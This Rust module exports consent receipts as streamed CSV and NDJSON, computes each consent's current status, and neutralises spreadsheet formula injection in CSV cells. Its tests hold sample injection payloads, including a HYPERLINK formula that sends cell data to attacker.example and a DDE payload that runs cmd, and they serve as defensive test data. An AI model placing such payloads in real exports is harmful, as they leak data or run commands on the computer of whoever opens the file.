//! Streaming export of receipts (CSV, NDJSON, Kantara NDJSON) and each receipt's status.
//!
//! [`write_export`] reads matching receipts in log order in chunks of [`CHUNK`] (a keyset
//! on `seq`, one pooled connection per chunk, the next chunk read on a thread of its own
//! while this one is written) and writes them to any `io::Write`: the CLI
//! passes stdout, the HTTP handler a [`ChannelWriter`] feeding a streaming response. Memory
//! stays constant whatever the size of the log.

use std::collections::HashMap;
use std::io::{self, Write};

use actix_web::web::Bytes;
use serde::Serialize;
use tokio::sync::mpsc;

use crate::admin::SiteInfo;
use crate::admin::kantara;
use crate::receipt;
use crate::store::{AdminRow, Reader, ReceiptFilter, StoreError};

/// Receipts read per query.
pub const CHUNK: u32 = 2000;

/// UTF-8 byte order mark: Excel reads a CSV without it as the local ANSI code page and
/// garbles Cyrillic and Kazakh text.
pub const BOM: &str = "\u{feff}";

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Format {
    Csv,
    Ndjson,
    Kantara,
}

impl Format {
    pub fn parse(text: &str) -> Option<Format> {
        match text {
            "csv" => Some(Self::Csv),
            "ndjson" | "json" => Some(Self::Ndjson),
            "kantara" => Some(Self::Kantara),
            _ => None,
        }
    }

    pub fn content_type(self) -> &'static str {
        match self {
            Self::Csv => "text/csv; charset=utf-8",
            Self::Ndjson | Self::Kantara => "application/x-ndjson",
        }
    }

    pub fn extension(self) -> &'static str {
        match self {
            Self::Csv => "csv",
            Self::Ndjson => "ndjson",
            Self::Kantara => "kantara.ndjson",
        }
    }
}

#[derive(Debug, thiserror::Error)]
pub enum ExportError {
    #[error(transparent)]
    Store(#[from] StoreError),
    #[error("writing the export failed: {0}")]
    Io(#[from] io::Error),
}

/// A consent's state now: `given`/`updated` unless later withdrawn, superseded by a newer
/// choice of the same browser, or past the site's retention period; other events are
/// their own state.
pub fn status(
    row: &AdminRow,
    retention_days: Option<u32>,
    now: time::OffsetDateTime,
) -> &'static str {
    let cutoff = retention_days.map(|days| crate::admin::retention::cutoff(now, days));
    status_before(row, cutoff.as_deref())
}

/// [`status`] with the retention cutoff precomputed (RFC 3339 UTC strings sort in time
/// order): the export decides it per row without parsing a date.
pub fn status_before(row: &AdminRow, expired_before: Option<&str>) -> &'static str {
    match row.row.event.as_str() {
        "given" | "updated" => {}
        "refused" => return "refused",
        "withdrawn" => return "withdrawal",
        _ => return "unknown",
    }
    if row.withdrawn_by.is_some() {
        return "withdrawn";
    }
    if row.superseded_by.is_some() {
        return "superseded";
    }
    if expired_before.is_some_and(|cutoff| row.row.issued_at.as_str() < cutoff) {
        return "expired";
    }
    "given"
}

const CSV_HEADER: &str = "seq,id,issued_at,site,kind,event,status,policy_version,lang,form_id,ref,withdrawn_by,withdrawn_at,superseded_by,subject_erased,kid,jws\r\n";

/// Whether a spreadsheet reads `value` as a formula: it begins with a formula character
/// (`receipt::FORMULA_LEADS`, the rule input validation applies to names) or a control
/// character (OWASP, "CSV Injection", names tab and carriage return; OWASP ASVS 5.0 1.2.10
/// adds NUL).
fn is_formula(value: &str) -> bool {
    value
        .chars()
        .next()
        .is_some_and(|c| receipt::FORMULA_LEADS.contains(&c) || c.is_control())
}

/// One cell: RFC 4180 quoting, and a text that a spreadsheet would run as a formula is
/// neutralised with a leading `'` (OWASP's advice), which shows it as the text it is. Input
/// validation refuses such form ids and field names today; receipts stored before it did,
/// and any column added later, are covered here.
fn csv_field(out: &mut String, value: &str) {
    let formula = is_formula(value);
    if formula || value.contains([',', '"', '\n', '\r']) {
        out.push('"');
        if formula {
            out.push('\'');
        }
        out.push_str(&value.replace('"', "\"\""));
        out.push('"');
    } else {
        out.push_str(value);
    }
}

/// One CSV record (RFC 4180, CRLF).
pub fn csv_line(row: &AdminRow, status: &str) -> String {
    let mut out = String::with_capacity(row.row.jws.len() + 256);
    push_csv_line(&mut out, row, status);
    out
}

/// Appends one CSV record to `out`.
fn push_csv_line(out: &mut String, row: &AdminRow, status: &str) {
    let r = &row.row;
    let (wid, wat) = row
        .withdrawn_by
        .as_ref()
        .map_or(("", ""), |(i, a)| (i.as_str(), a.as_str()));
    let seq = r.seq.to_string();
    let fields: [&str; 17] = [
        &seq,
        &r.id,
        &r.issued_at,
        &r.site,
        &r.kind,
        &r.event,
        status,
        &r.policy_version,
        &r.lang,
        r.form_id.as_deref().unwrap_or(""),
        &r.reference,
        wid,
        wat,
        row.superseded_by.as_deref().unwrap_or(""),
        if row.erased { "true" } else { "false" },
        &r.kid,
        &r.jws,
    ];
    for (i, f) in fields.iter().enumerate() {
        if i > 0 {
            out.push(',');
        }
        csv_field(out, f);
    }
    out.push_str("\r\n");
}

/// A row with its status, as NDJSON and API JSON.
#[derive(Debug, Serialize)]
pub struct RowWithStatus<'a> {
    #[serde(flatten)]
    pub row: &'a AdminRow,
    pub status: &'a str,
}

/// Writes every receipt matching `filter` to `out` in `format`; returns how many.
pub fn write_export(
    reader: &Reader,
    filter: &ReceiptFilter,
    format: Format,
    sites: &HashMap<String, SiteInfo>,
    out: &mut impl Write,
) -> Result<u64, ExportError> {
    let now = time::OffsetDateTime::now_utc();
    let cutoffs: HashMap<&str, String> = sites
        .iter()
        .map(|(id, s)| {
            (
                id.as_str(),
                crate::admin::retention::cutoff(now, s.retention_days),
            )
        })
        .collect();
    let mut text = String::with_capacity(8 * 1024);
    if format == Format::Csv {
        out.write_all(BOM.as_bytes())?;
        out.write_all(CSV_HEADER.as_bytes())?;
    }
    let mut written = 0u64;
    let mut line = Vec::with_capacity(4096);
    // The next chunk is read while this one is written: the database (a PostgreSQL server
    // process, or SQLite's page reads) and the formatting then run on two cores instead of
    // taking turns. One chunk waits in the channel at most, so memory stays bounded.
    std::thread::scope(|scope| -> Result<(), ExportError> {
        let (send, chunks) = crossbeam_channel::bounded::<Result<Vec<AdminRow>, StoreError>>(1);
        scope.spawn(move || {
            let mut after = 0;
            loop {
                let chunk = reader.admin_chunk(filter, after, CHUNK);
                let last = match &chunk {
                    Ok(rows) => rows.last().map(|r| r.row.seq),
                    Err(_) => None,
                };
                let more = last.is_some();
                // A closed channel means the writer stopped (an error, a client gone).
                if send.send(chunk).is_err() || !more {
                    return;
                }
                after = last.unwrap_or(after);
            }
        });
        for chunk in chunks {
            let rows = chunk?;
            for row in &rows {
                let site = sites.get(&row.row.site);
                let status =
                    status_before(row, cutoffs.get(row.row.site.as_str()).map(String::as_str));
                line.clear();
                match format {
                    Format::Csv => {
                        text.clear();
                        push_csv_line(&mut text, row, status);
                        line.extend_from_slice(text.as_bytes());
                    }
                    Format::Ndjson => {
                        serde_json::to_writer(&mut line, &RowWithStatus { row, status })
                            .map_err(io::Error::other)?;
                        line.push(b'\n');
                    }
                    Format::Kantara => {
                        let (Some(payload), Some(site)) =
                            (receipt::decode_unverified(&row.row.jws), site)
                        else {
                            continue;
                        };
                        let doc = kantara::render(&payload, &row.row.kid, site);
                        serde_json::to_writer(&mut line, &doc).map_err(io::Error::other)?;
                        line.push(b'\n');
                    }
                }
                out.write_all(&line)?;
                written += 1;
            }
        }
        Ok(())
    })?;
    out.flush()?;
    Ok(written)
}

/// An `io::Write` that hands 64 KiB chunks to a streaming HTTP response; blocks while the
/// client is slower than the database (the bounded channel is the back-pressure).
pub struct ChannelWriter {
    buf: Vec<u8>,
    tx: mpsc::Sender<Result<Bytes, io::Error>>,
}

const FLUSH_AT: usize = 64 * 1024;

impl ChannelWriter {
    pub fn new(tx: mpsc::Sender<Result<Bytes, io::Error>>) -> Self {
        Self {
            buf: Vec::with_capacity(FLUSH_AT * 2),
            tx,
        }
    }

    fn send(&mut self) -> io::Result<()> {
        if self.buf.is_empty() {
            return Ok(());
        }
        let chunk = Bytes::from(std::mem::replace(
            &mut self.buf,
            Vec::with_capacity(FLUSH_AT * 2),
        ));
        self.tx
            .blocking_send(Ok(chunk))
            .map_err(|_| io::Error::new(io::ErrorKind::BrokenPipe, "the client went away"))
    }
}

impl Write for ChannelWriter {
    fn write(&mut self, data: &[u8]) -> io::Result<usize> {
        self.buf.extend_from_slice(data);
        if self.buf.len() >= FLUSH_AT {
            self.send()?;
        }
        Ok(data.len())
    }

    fn flush(&mut self) -> io::Result<()> {
        self.send()
    }
}

/// The receiving end as a body stream.
pub struct ChunkStream(pub mpsc::Receiver<Result<Bytes, io::Error>>);

impl futures_core::Stream for ChunkStream {
    type Item = Result<Bytes, io::Error>;

    fn poll_next(
        mut self: std::pin::Pin<&mut Self>,
        cx: &mut std::task::Context<'_>,
    ) -> std::task::Poll<Option<Self::Item>> {
        self.0.poll_recv(cx)
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::store::ReceiptRow;

    fn row(event: &str, issued_at: &str) -> AdminRow {
        AdminRow {
            row: ReceiptRow {
                seq: 7,
                id: "id-1".into(),
                issued_at: issued_at.into(),
                site: "demo".into(),
                kind: "form".into(),
                event: event.into(),
                reference: "ab".repeat(16),
                policy_version: "2026-03".into(),
                lang: "kk".into(),
                form_id: Some("обратная, \"связь\"".into()),
                kid: "k".into(),
                jws: "a.b.c".into(),
                withdraws: None,
                holder_sha256: None,
            },
            withdrawn_by: None,
            superseded_by: None,
            erased: false,
        }
    }

    #[test]
    fn status_follows_the_consent_over_time() {
        let now = time::macros::datetime!(2026-11-21 10:00 UTC);
        let mut r = row("given", "2026-11-01T00:00:00.000Z");
        assert_eq!(status(&r, Some(1095), now), "given");
        assert_eq!(status(&r, Some(10), now), "expired");
        r.superseded_by = Some("later".into());
        assert_eq!(status(&r, Some(1095), now), "superseded");
        r.withdrawn_by = Some(("w".into(), "2026-11-02T00:00:00.000Z".into()));
        assert_eq!(status(&r, Some(1095), now), "withdrawn");
        assert_eq!(
            status(&row("refused", "2026-11-01T00:00:00Z"), None, now),
            "refused"
        );
    }

    #[test]
    fn no_text_cell_reaches_a_spreadsheet_as_a_formula() {
        let formulas = [
            r#"=HYPERLINK("https://attacker.example/?x="&A2,"Open receipt")"#,
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "+1+1",
            "-2+3",
            "\t=1",
            "\r=1",
            "＝1+1",
        ];
        for formula in formulas {
            let mut r = row("given", "2026-11-01T00:00:00.000Z");
            // Every text column at once.
            r.row.form_id = Some(formula.into());
            r.row.site = formula.into();
            r.row.kind = formula.into();
            r.row.event = formula.into();
            r.row.policy_version = formula.into();
            r.row.lang = formula.into();
            r.row.reference = formula.into();
            r.row.kid = formula.into();
            r.row.id = formula.into();
            r.row.issued_at = formula.into();
            r.superseded_by = Some(formula.into());
            r.withdrawn_by = Some((formula.into(), formula.into()));
            let line = csv_line(&r, formula);
            let mut cells = 0;
            for cell in split_csv(&line) {
                cells += 1;
                assert!(!is_formula(&cell), "{cell:?} in {line:?}");
            }
            assert_eq!(cells, CSV_HEADER.split(',').count(), "{line:?}");
            assert!(
                line.contains(&format!("\"'{}\"", formula.replace('"', "\"\""))),
                "{line}"
            );
        }
    }

    /// The cells of one RFC 4180 record, unquoted.
    fn split_csv(line: &str) -> Vec<String> {
        let mut cells = Vec::new();
        let mut cell = String::new();
        let mut quoted = false;
        let mut chars = line.trim_end_matches("\r\n").chars().peekable();
        while let Some(c) = chars.next() {
            match c {
                '"' if quoted && chars.peek() == Some(&'"') => {
                    cell.push('"');
                    chars.next();
                }
                '"' => quoted = !quoted,
                ',' if !quoted => cells.push(std::mem::take(&mut cell)),
                c => cell.push(c),
            }
        }
        cells.push(cell);
        cells
    }

    #[test]
    fn csv_quotes_what_needs_quoting() {
        let line = csv_line(&row("given", "2026-11-01T00:00:00.000Z"), "given");
        assert!(line.contains(",\"обратная, \"\"связь\"\"\","), "{line}");
        assert!(line.ends_with(",k,a.b.c\r\n"), "{line}");
        assert_eq!(
            line.matches(',').count() - 1,
            CSV_HEADER.matches(',').count()
        );
    }
}
